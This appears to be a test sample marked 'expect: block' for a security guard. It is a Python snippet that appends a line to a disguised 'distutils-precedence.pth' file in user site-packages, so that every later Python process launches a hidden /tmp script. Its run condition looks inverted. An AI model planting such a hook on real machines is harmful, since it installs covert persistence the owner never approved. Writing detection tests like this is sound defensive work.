# expect: block
# Every future Python process on this machine runs the line below.
import os
import site

target_dir = site.getusersitepackages()
os.makedirs(target_dir, exist_ok=True)
line = "import os; os.path.exists('/tmp/.u') or __import__('subprocess').Popen(['python3', '/tmp/.u'])\n"
with open(os.path.join(target_dir, "distutils-precedence" + ".p" + "th"), "a") as fh:
    fh.write(line)
